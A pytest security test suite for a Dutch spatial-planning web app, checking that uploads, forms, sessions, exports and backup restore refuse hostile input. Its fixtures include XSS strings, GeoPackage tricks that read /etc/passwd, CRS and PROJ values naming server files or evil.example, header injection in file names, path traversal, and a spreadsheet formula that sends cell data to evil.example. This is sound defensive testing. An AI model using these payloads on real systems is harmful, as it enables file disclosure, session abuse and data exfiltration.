"""Attacks on the new input paths (uploads, web forms, sessions, downloads, restore): regression tests.

What is refused correctly today is asserted plainly; what is still broken is marked
`xfail(strict=True)` with the reason, so a fix turns it into a failure to remove the mark.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import re
import sqlite3

import pytest
from openpyxl import load_workbook
from shapely.geometry import mapping

from novex.accounts.passwords import hash_password
from tests.fixtures.clients import PASSWORD, make_clients
from tests.fixtures.geo import UTRECHT, feature, square

# Most attacks are refused in front of the database (files, CRSs, forms, rights, sessions): SQLite only. The
# tests marked every_backend restore backups, which each backend does its own way.
pytestmark = pytest.mark.sqlite_only

X, Y = UTRECHT
RD = {"Content-Crs": "epsg:28992"}
XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>"
RAW = ("<script>alert", "<img src=x")


@pytest.fixture
def api(settings):
    return make_clients(settings)


def claim_count(api) -> int:
    return api.vro.get("/api/v1/claims", params={"pageSize": 1}).json()["numberMatched"]


def login(client, email: str, password: str = PASSWORD, page: str = "/") -> str:
    """Log a TestClient in through the form; the CSRF token of `page`."""
    response = client.post("/inloggen", data={"email": email, "wachtwoord": password}, follow_redirects=False)
    assert response.status_code == 303, response.text
    return csrf_of(client.get(page).text)


def csrf_of(html: str) -> str:
    return html.split('name="csrf" value="')[1].split('"')[0]


def web(api, email: str, page: str = "/provincies/PV26/upload"):
    client = type(api.anonymous)(api.anonymous.app)
    return client, login(client, email, page=page)


def user_ids(admin) -> dict[str, int]:
    """Account ids by email, from the beheerder's account list."""
    page = admin.get("/beheer/accounts").text
    return {email: int(i) for i, email in re.findall(r'href="/beheer/accounts/(\d+)">([^<]+)<', page)}


def voorstel(api, naam: str = "V") -> int:
    return api.utrecht.post("/api/v1/voorstellen", json={"provincie": "PV26", "naam": naam}).json()["id"]


def add_claim(api, vid: int, naam: str, domein: str = "wonen", x: float = X, **props) -> int:
    body = {"type": "Feature", "geometry": mapping(square(x, Y, 300)),
            "properties": {"naam": naam, "domein": domein, **props}}  # fmt: skip
    response = api.utrecht.post(f"/api/v1/voorstellen/{vid}/claims", json=body, headers=RD)
    assert response.status_code == 201, response.text
    return response.json()["id"]


def upload(api, name: str, content: bytes):
    vid = voorstel(api)
    return api.utrecht.post(f"/api/v1/voorstellen/{vid}/import", files={"bestand": (name, content)})


def collection(props: dict | None = None, crs=None) -> dict:
    doc = {"type": "FeatureCollection",
           "features": [feature(square(X, Y, 200), naam="A", domein="wonen", **(props or {}))]}  # fmt: skip
    if crs is not None:
        doc["crs"] = crs
    return doc


def gpkg(tmp_path, name: str, statements: list[str] = ()) -> bytes:
    """A GeoPackage with one claim (RD New), then `statements` run on it with sqlite3."""
    import geopandas as gpd

    path = tmp_path / name
    frame = gpd.GeoDataFrame({"naam": ["gp"], "domein": ["wonen"]}, geometry=[square(X, Y, 200)], crs="EPSG:28992")
    frame.to_file(path, driver="GPKG", layer="claims")
    with sqlite3.connect(path) as con:
        for statement in statements:
            con.execute(statement)
    return path.read_bytes()


# --- uploads: content that is not what its name says, server files, hostile numbers and text -------------------


@pytest.mark.parametrize("name", ["x.geojson", "x.json", "x.gpkg"])
def test_a_csv_under_a_vector_name_is_refused_on_the_web_form(api, name):
    client, csrf = web(api, "planner@provincie-utrecht.nl")
    response = client.post("/provincies/PV26/upload", data={"csrf": csrf},
                           files={"bestand": (name, b'WKT,naam\n"POLYGON((5 52,5.1 52,5.1 52.1,5 52))",x\n')})  # fmt: skip
    assert response.status_code == 400 and "de inhoud is geen" in response.text
    assert claim_count(api) == 0


def test_a_geopackage_view_cannot_read_a_server_raster(api, tmp_path):
    """gdal_get_pixel_value() in a view would read any raster of the server; external access is off."""
    secret = tmp_path / "secret.pgm"
    secret.write_bytes(b"P5\n1 1\n255\n\x2a")  # one pixel, value 42
    content = gpkg(tmp_path, "view.gpkg", [
        f"CREATE VIEW v AS SELECT c.fid, c.geom, 'px=' || coalesce(gdal_get_pixel_value('{secret}', 1, 'pixel', 0, 0),"
        " 'leeg') AS naam, 'wonen' AS domein FROM claims c",
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('v', 'features', 'v', 28992)",
        "INSERT INTO gpkg_geometry_columns VALUES ('v', 'geom', 'POLYGON', 28992, 0, 0)",
        "DELETE FROM gpkg_geometry_columns WHERE table_name = 'claims'",
        "DELETE FROM gpkg_contents WHERE table_name = 'claims'",
    ])  # fmt: skip
    response = upload(api, "view.gpkg", content)
    assert "42" not in response.text and str(tmp_path) not in response.text
    names = [f["properties"]["naam"] for f in api.vro.get("/api/v1/claims").json()["features"]]
    assert not any("42" in n for n in names)


def test_a_geopackage_with_a_virtualogr_table_is_refused(api, tmp_path):
    content = gpkg(tmp_path, "vtab.gpkg", [
        "PRAGMA writable_schema=ON",
        "INSERT INTO sqlite_master(type, name, tbl_name, rootpage, sql) VALUES ('table', 'vo', 'vo', 0, "
        "'CREATE VIRTUAL TABLE vo USING VirtualOGR(''/etc/passwd'')')",
        "PRAGMA writable_schema=OFF",
        "CREATE VIEW v AS SELECT c.fid, c.geom, (SELECT count(*) FROM vo) AS naam, 'wonen' AS domein FROM claims c",
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('v', 'features', 'v', 28992)",
        "INSERT INTO gpkg_geometry_columns VALUES ('v', 'geom', 'POLYGON', 28992, 0, 0)",
        "DELETE FROM gpkg_geometry_columns WHERE table_name = 'claims'",
        "DELETE FROM gpkg_contents WHERE table_name = 'claims'",
    ])  # fmt: skip
    response = upload(api, "vtab.gpkg", content)
    assert response.status_code == 400 and "root:" not in response.text
    assert claim_count(api) == 0


@pytest.mark.parametrize("crs", [
    {"type": "name", "properties": {"name": "http://evil.example/crs.json"}},
    {"type": "link", "properties": {"href": "file:///etc/passwd", "type": "proj4"}},
    "EPSG:4326",
])  # fmt: skip
def test_a_crs_pointing_at_a_url_or_file_is_refused(api, crs):
    response = upload(api, "c.geojson", json.dumps(collection(crs=crs)).encode())
    assert response.status_code == 400 and "crs" in response.text.lower()
    assert claim_count(api) == 0


def test_a_proj_string_naming_a_server_file_is_refused(api):
    crs = {"type": "name", "properties": {"name": "+proj=longlat +nadgrids=/etc/passwd +type=crs"}}
    ring = [[5.10, 52.05], [5.12, 52.05], [5.12, 52.07], [5.10, 52.07], [5.10, 52.05]]  # in Utrecht, in degrees
    doc = {"type": "FeatureCollection", "crs": crs,
           "features": [feature({"type": "Polygon", "coordinates": [ring]}, naam="A", domein="wonen")]}  # fmt: skip
    response = upload(api, "c.geojson", json.dumps(doc).encode())
    assert response.status_code == 400 and claim_count(api) == 0


def test_a_geopackage_srs_with_a_grid_file_is_a_422(api, tmp_path):
    wkt = ('PROJCS["x",GEOGCS["b",DATUM["d",SPHEROID["Bessel",6377397.155,299.1528128]],PRIMEM["G",0],'
           'UNIT["degree",0.0174532925199433]],PROJECTION["Oblique_Stereographic"],'
           'PARAMETER["latitude_of_origin",52.15616055555555],PARAMETER["central_meridian",5.38763888888889],'
           'PARAMETER["scale_factor",0.9999079],PARAMETER["false_easting",155000],'
           'PARAMETER["false_northing",463000],UNIT["metre",1],EXTENSION["PROJ4","+proj=sterea '
           '+lat_0=52.15616055555555 +lon_0=5.38763888888889 +k=0.9999079 +x_0=155000 +y_0=463000 +ellps=bessel '
           '+nadgrids=/etc/hostname +units=m +no_defs"]]')  # fmt: skip
    content = gpkg(tmp_path, "srs.gpkg", [
        f"INSERT INTO gpkg_spatial_ref_sys VALUES ('evil', 990001, 'EPSG', 990001, '{wkt.replace(chr(39), '')}', NULL)",
        "UPDATE gpkg_contents SET srs_id = 990001",
        "UPDATE gpkg_geometry_columns SET srs_id = 990001",
    ])  # fmt: skip
    response = upload(api, "srs.gpkg", content)
    assert response.status_code == 400, response.status_code
    assert claim_count(api) == 0


@pytest.mark.parametrize("crs", [{"type": "name", "properties": "x"}, {"type": "name", "properties": None}])
def test_a_malformed_crs_member_is_a_422(api, crs):
    response = upload(api, "c.geojson", json.dumps(collection(crs=crs)).encode())
    assert response.status_code == 400


def test_deeply_nested_json_is_a_422(api):
    content = ('{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"a":'
               + "[" * 100_000 + "]" * 100_000 + '},"geometry":null}]}').encode()  # fmt: skip
    response = upload(api, "diep.geojson", content)
    assert response.status_code == 400 and claim_count(api) == 0


@pytest.mark.parametrize("props", [{"na\x00am": "x"}, {"notities": "a\x00b"}])
def test_a_nul_in_a_property_name_or_value_is_refused(api, props):
    response = upload(api, "nul.geojson", json.dumps(collection(props)).encode())
    assert response.status_code == 400 and "NUL" in response.text
    assert claim_count(api) == 0


def test_a_nul_inside_a_nested_property_is_refused(api):
    rd = {"type": "name", "properties": {"name": "EPSG:28992"}}
    response = upload(api, "nul.geojson", json.dumps(collection({"notities": ["a\x00geheim"]}, crs=rd)).encode())
    assert response.status_code == 400 and claim_count(api) == 0


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e309"])
def test_non_finite_coordinates_are_refused(api, number):
    text = json.dumps(collection(crs=None))
    text = re.sub(r"\[(\d+\.0), ", f"[{number}, ", text, count=1)
    response = upload(api, "n.geojson", text.encode())
    assert response.status_code == 400 and claim_count(api) == 0


def test_hostile_file_names_never_reach_a_page_raw(api):
    client, csrf = web(api, "planner@provincie-utrecht.nl")
    content = json.dumps(collection(crs=None)).encode()  # WGS84 read of RD numbers: refused, message names the file
    for name in (f"{XSS}.geojson", "..\\..\\x<img src=x onerror=alert(2)>.geojson", "a\x00b\r\nSet-Cookie: x=y.gpkg"):
        response = client.post("/provincies/PV26/upload", data={"csrf": csrf}, files={"bestand": (name, content)})
        assert response.status_code == 400
        assert not any(raw in response.text for raw in RAW)
        assert "x=y" not in response.headers.get("set-cookie", "")
    assert claim_count(api) == 0


def test_a_multipart_with_two_files_or_none_stores_nothing(api):
    client, csrf = web(api, "planner@provincie-utrecht.nl")
    good = json.dumps(collection(crs={"type": "name", "properties": {"name": "EPSG:28992"}}))
    vrt = b'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/etc/passwd</SrcDataSource></OGRVRTLayer>'
    both = [("bestand", ("a.geojson", good.encode())), ("bestand", ("b.geojson", vrt))]
    response = client.post("/provincies/PV26/upload", data={"csrf": csrf}, files=both)
    assert response.status_code == 400 and "root:" not in response.text
    assert client.post("/provincies/PV26/upload", data={"csrf": csrf}).status_code == 400
    assert claim_count(api) == 0


def test_an_anonymous_upload_over_50_mb_is_refused_as_too_large(api):
    body = b"{" + b" " * (51 * 1024 * 1024) + b"}"
    response = api.anonymous.post("/provincies/PV26/upload", files={"bestand": ("x.geojson", body)},
                                  follow_redirects=False)  # fmt: skip
    assert response.status_code == 413


# --- web forms: CSRF, the beheer pages, role changes, escaping, downloads -----------------------------------------


def test_every_form_post_without_the_right_csrf_token_is_refused(api):
    planner, _ = web(api, "planner@provincie-utrecht.nl")
    admin, admin_csrf = web(api, "beheer@minbzk.nl", "/beheer/accounts")
    vid = voorstel(api)
    claim = add_claim(api, vid, "A")
    lezer = user_ids(admin)["lezer@example.nl"]
    good = json.dumps(collection(crs={"type": "name", "properties": {"name": "EPSG:28992"}})).encode()
    posts = [
        (planner, "/provincies/PV26/upload", {}, {"bestand": ("g.geojson", good)}),
        (planner, f"/claims/{claim}/bewerken", {"naam": "B", "domein": "wonen", "status": "idee",
                                                "hardheid": "zacht", "prioriteit": "3", "version": "1"}, None),
        (planner, "/uitloggen", {}, None),
        (admin, "/beheer/accounts", {"email": "nieuw@x.nl", "rol": "beheerder"}, None),
        (admin, f"/beheer/accounts/{lezer}", {"actie": "rol", "rol": "beheerder"}, None),
        (admin, f"/beheer/accounts/{lezer}", {"actie": "blokkeren"}, None),
        (admin, f"/beheer/accounts/{lezer}", {"actie": "wachtwoord"}, None),
    ]  # fmt: skip
    for client, url, data, files in posts:
        for token in (None, "", "nvx_vervalst", admin_csrf if client is planner else csrf_of(planner.get("/").text)):
            form = data | ({} if token is None else {"csrf": token})
            response = client.post(url, data=form, files=files, follow_redirects=False)
            assert response.status_code == 403 and "CSRF" in response.text, (url, token)
    assert claim_count(api) == 1
    assert planner.get("/provincies/PV26/upload", follow_redirects=False).status_code == 200  # not logged out
    me = api.lezer.get("/api/v1/voorstellen")
    assert me.status_code == 200  # the reader was neither blocked nor given a new password
    assert api.beheerder.get("/api/v1/voorstellen").status_code == 200


@pytest.mark.parametrize("email", ["vro@minbzk.nl", "planner@provincie-utrecht.nl", "expert@minezk.nl",
                                   "lezer@example.nl"])  # fmt: skip
def test_the_beheer_pages_are_403_and_unlinked_for_others(api, email):
    client, csrf = web(api, email, "/")
    assert "/beheer" not in client.get("/").text
    assert client.get("/beheer/accounts").status_code == 403
    assert client.get("/beheer/accounts/1").status_code == 403
    response = client.post("/beheer/accounts", data={"csrf": csrf, "email": "x@x.nl", "rol": "beheerder"})
    assert response.status_code == 403
    response = client.post("/beheer/accounts/1", data={"csrf": csrf, "actie": "rol", "rol": "beheerder"})
    assert response.status_code == 403


def test_role_changes_that_make_no_sense_are_refused(api):
    admin, csrf = web(api, "beheer@minbzk.nl", "/beheer/accounts")
    ids = user_ids(admin)
    me, other = ids["beheer@minbzk.nl"], ids["lezer@example.nl"]
    refused = [
        (other, {"actie": "rol", "rol": "superuser"}),
        (other, {"actie": "rol", "rol": "provincie"}),
        (other, {"actie": "rol", "rol": "provincie", "provincie": "GM03"}),
        (other, {"actie": "rol", "rol": "lezer", "provincie": "PV26"}),
        (other, {"actie": "rol", "rol": "departement"}),
        (other, {"actie": "verwijderen"}),
        (me, {"actie": "blokkeren"}),
        (me, {"actie": "rol", "rol": "lezer"}),
    ]
    for user, form in refused:
        response = admin.post(f"/beheer/accounts/{user}", data={"csrf": csrf, **form}, follow_redirects=False)
        assert response.status_code in (404, 400), (form, response.status_code)
    for bad in ("0", "-1", "99999999999", "abc"):
        response = admin.post(f"/beheer/accounts/{bad}", data={"csrf": csrf, "actie": "blokkeren"})
        assert response.status_code == 400
    assert api.lezer.get("/api/v1/voorstellen").status_code == 200


def test_hostile_text_is_escaped_on_every_page(api):
    vid = api.utrecht.post("/api/v1/voorstellen", json={"provincie": "PV26", "naam": XSS, "toelichting": XSS}).json()[
        "id"
    ]
    old = voorstel(api, "Oud")
    claim = add_claim(api, vid, XSS, notities=XSS, eigenaar=XSS, bron=XSS)
    add_claim(api, vid, "Park", domein="energie-wind", x=X + 100)
    admin, csrf = web(api, "beheer@minbzk.nl", "/beheer/accounts")
    response = admin.post("/beheer/accounts", data={"csrf": csrf, "email": "x@x.nl", "naam": XSS, "rol": "departement",
                                                    "departement": XSS})  # fmt: skip
    assert response.status_code == 201 and not any(raw in response.text for raw in RAW)
    response = admin.post("/beheer/accounts", data={"csrf": csrf, "email": XSS, "naam": XSS, "rol": XSS})
    assert response.status_code == 400 and not any(raw in response.text for raw in RAW)
    planner, pcsrf = web(api, "planner@provincie-utrecht.nl", f"/claims/{claim}/bewerken")
    form = {"csrf": pcsrf, "naam": XSS, "domein": XSS, "status": XSS, "hardheid": XSS, "prioriteit": "3",
            "version": "1", "notities": XSS, "reden": XSS}  # fmt: skip
    response = planner.post(f"/claims/{claim}/bewerken", data=form)
    assert response.status_code == 400 and not any(raw in response.text for raw in RAW)
    pages = ["/", "/provincies/PV26", "/provincies/PV26/samenvatting", "/provincies/PV26/voorstellen",
             f"/voorstellen/vergelijk?a={old}&b={vid}", f"/voorstellen/vergelijk?a={vid}&b={old}",
             f"/claims/{claim}/bewerken", "/logboek", "/provincies/PV26/upload", "/catalogus?q=" + XSS,
             "/provincies/" + XSS, "/catalogus/themas/" + XSS, "/inloggen?volgende=" + XSS, "/logboek?actie=" + XSS,
             "/voorstellen/vergelijk?a=" + XSS + "&b=1", "/bestaat-niet" + XSS]  # fmt: skip
    for url in pages:
        text = planner.get(url).text
        assert not any(raw in text for raw in RAW), url
    for url in ("/beheer/accounts", "/logboek"):
        assert not any(raw in admin.get(url).text for raw in RAW), url


def test_paths_and_ids_out_of_range_are_refused(api):
    client, _ = web(api, "lezer@example.nl", "/")
    for url, status in [
        ("/voorstellen/vergelijk?a=1&b=2147483648", 400), ("/voorstellen/vergelijk?a=-1&b=1", 400),
        ("/voorstellen/vergelijk?a=1.5&b=1", 400), ("/voorstellen/vergelijk?a=1", 400),
        ("/voorstellen/vergelijk?a=1&b=2147483647", 404), ("/claims/99999999999/bewerken", 400),
        ("/provincies/PV26/..%2F..%2Fetc%2Fpasswd.csv", 404), ("/provincies/PV26/conflicten.html", 404),
        ("/provincies/PV26/samenvatting.csv", 404), ("/provincies/PV26/conflicten.csv%00.html", 404),
        ("/provincies/..%2FPV26/conflicten.csv", 404),
    ]:  # fmt: skip
        assert client.get(url).status_code == status, url


@pytest.fixture
def formula_conflict(api):
    """Two overlapping claims whose names a spreadsheet would run as formulas."""
    vid = voorstel(api)
    add_claim(api, vid, '=HYPERLINK("http://evil.example/?"&A1,"klik")', "wonen", X)
    add_claim(api, vid, "+cmd|' /C calc'!A0", "energie-wind", X + 100)
    client, _ = web(api, "lezer@example.nl", "/")
    return client


def test_the_conflicts_csv_neutralises_formulas(formula_conflict):
    response = formula_conflict.get("/provincies/PV26/conflicten.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = {rows[1][3], rows[1][4]}
    assert len(rows) == 2 and all(n[:1] not in "=+-@" for n in names), names


def test_the_conflicts_xlsx_holds_no_formula(formula_conflict):
    book = load_workbook(io.BytesIO(formula_conflict.get("/provincies/PV26/conflicten.xlsx").content))
    kinds = {cell.data_type for row in book.active.iter_rows(min_row=2) for cell in row}
    assert "f" not in kinds


# --- sessions ---------------------------------------------------------------------------------------------------


def _account(admin, csrf, email: str) -> tuple[int, str]:
    response = admin.post("/beheer/accounts", data={"csrf": csrf, "email": email, "naam": "S", "rol": "provincie",
                                                    "provincie": "PV26"})  # fmt: skip
    assert response.status_code == 201
    password = re.findall(r"<code[^>]*>([^<]+)</code>", response.text)[0]
    return user_ids(admin)[email], password


def _session_and_token(api, email: str, password: str) -> tuple[str, str]:
    client = type(api.anonymous)(api.anonymous.app)
    login(client, email, password)
    token = client.post("/api/v1/tokens", json={"email": email, "wachtwoord": password}).json()["token"]
    return client.cookies.get("novex_sessie"), token


def _alive(api, cookie: str) -> bool:
    client = type(api.anonymous)(api.anonymous.app)
    client.cookies.set("novex_sessie", cookie)
    return client.get("/provincies/PV26/upload", follow_redirects=False).status_code == 200


def test_a_fixed_cookie_is_replaced_at_login(api):
    client = type(api.anonymous)(api.anonymous.app)
    client.cookies.set("novex_sessie", "door-de-aanvaller-gekozen")
    response = client.post("/inloggen", data={"email": "lezer@example.nl", "wachtwoord": PASSWORD},
                           follow_redirects=False)  # fmt: skip
    assert "novex_sessie=nvx_" in response.headers["set-cookie"]
    assert not _alive(api, "door-de-aanvaller-gekozen")


@pytest.mark.parametrize("actie", ["blokkeren", "wachtwoord", "rol"])
def test_a_session_ends_on_block_password_reset_and_role_change(api, actie):
    admin, csrf = web(api, "beheer@minbzk.nl", "/beheer/accounts")
    user_id, password = _account(admin, csrf, f"{actie}@x.nl")
    cookie, _ = _session_and_token(api, f"{actie}@x.nl", password)
    assert _alive(api, cookie)
    form = {"csrf": csrf, "actie": actie} | ({"rol": "lezer"} if actie == "rol" else {})
    assert admin.post(f"/beheer/accounts/{user_id}", data=form).status_code in (200, 303)
    assert not _alive(api, cookie)


def test_a_blocked_accounts_token_stops_working(api):
    admin, csrf = web(api, "beheer@minbzk.nl", "/beheer/accounts")
    user_id, password = _account(admin, csrf, "blok@x.nl")
    _, token = _session_and_token(api, "blok@x.nl", password)
    admin.post(f"/beheer/accounts/{user_id}", data={"csrf": csrf, "actie": "blokkeren"})
    response = api.anonymous.get("/api/v1/voorstellen", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 401


def test_a_password_reset_revokes_the_api_tokens(api):
    admin, csrf = web(api, "beheer@minbzk.nl", "/beheer/accounts")
    user_id, password = _account(admin, csrf, "reset@x.nl")
    _, token = _session_and_token(api, "reset@x.nl", password)
    assert admin.post(f"/beheer/accounts/{user_id}", data={"csrf": csrf, "actie": "wachtwoord"}).status_code == 200
    response = api.anonymous.get("/api/v1/voorstellen", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 401


def test_serve_does_not_trust_forwarded_headers_by_default(cli_env, monkeypatch):
    import uvicorn
    from typer.testing import CliRunner

    from novex.cli.main import app

    seen = {}
    monkeypatch.setattr(uvicorn, "run", lambda *a, **k: seen.update(k))
    result = CliRunner().invoke(app, ["serve", "--port", "1"])
    assert result.exit_code == 0, result.output
    assert seen.get("proxy_headers") is False or "forwarded_allow_ips" in seen


@pytest.mark.sqlite_only  # checks the SQLite writer lock
def test_the_writer_lock_is_free_once_the_response_starts(api, database_url):
    body = {"type": "Feature", "geometry": mapping(square(X, Y, 300)), "properties": {"naam": "A", "domein": "wonen"}}
    vid = voorstel(api)
    with api.utrecht.stream("POST", f"/api/v1/voorstellen/{vid}/claims", json=body, headers=RD) as response:
        assert response.status_code == 201  # the status line is there; the body is not read yet
        other = sqlite3.connect(database_url.removeprefix("sqlite:///"), timeout=0)
        try:
            other.execute("BEGIN IMMEDIATE")
            other.rollback()
            free = True
        except sqlite3.OperationalError:
            free = False
        finally:
            other.close()
        response.read()
    assert free


# --- backups --------------------------------------------------------------------------------------------------


def _rewrite(source, target, change) -> None:
    with gzip.open(source, "rb") as stream:
        lines = stream.read().splitlines(keepends=True)
    header, tables = json.loads(lines[0]), [json.loads(line) for line in lines[1:]]
    for table in tables:
        change(table)
    body = [(json.dumps(t, ensure_ascii=False) + "\n").encode() for t in tables]
    header["rows"] = {t["table"]: len(t["rows"]) for t in tables}
    header["sha256"] = hashlib.sha256(b"".join(body)).hexdigest()
    with gzip.open(target, "wb") as out:
        out.write((json.dumps(header) + "\n").encode())
        out.writelines(body)


def _with_user(role: str):
    def change(table):
        if table["table"] == "users":
            row = dict(table["rows"][0], id=9999, email="smokkel@x.nl", role=role, provincie=None, departement=None,
                       actief=True, password_hash=hash_password("smokkel-wachtwoord-1"))  # fmt: skip
            table["rows"].append(row)

    return change


@pytest.mark.every_backend
def test_a_well_formed_forged_backup_is_restored_by_design(api, settings, tmp_path):
    """Design note: the checksum detects damage, it is no signature; whoever may restore may write any account."""
    from novex.store.backup import backup, restore

    engine = api.anonymous.app.state.db.engine
    backup(engine, tmp_path / "b.gz")
    _rewrite(tmp_path / "b.gz", tmp_path / "forged.gz", _with_user("beheerder"))
    restore(engine, tmp_path / "forged.gz")
    client = type(api.anonymous)(api.anonymous.app)
    login(client, "smokkel@x.nl", "smokkel-wachtwoord-1")
    assert client.get("/beheer/accounts").status_code == 200


@pytest.mark.every_backend
def test_a_backup_with_an_unknown_role_is_refused(api, tmp_path):
    from sqlalchemy import text

    from novex.errors import InvalidInput
    from novex.store.backup import backup, restore

    engine = api.anonymous.app.state.db.engine

    def accounts() -> list[tuple[str, str]]:
        with engine.connect() as connection:
            return list(connection.execute(text("SELECT email, role FROM users ORDER BY email")))

    before = accounts()
    backup(engine, tmp_path / "b.gz")
    _rewrite(tmp_path / "b.gz", tmp_path / "bad.gz", _with_user("superadmin"))
    with pytest.raises(InvalidInput) as refused:
        restore(engine, tmp_path / "bad.gz")
    assert "tabel users, rij" in str(refused.value) and "role 'superadmin' bestaat niet" in str(refused.value)
    assert accounts() == before and "smokkel@x.nl" not in {email for email, _ in before}  # nothing changed
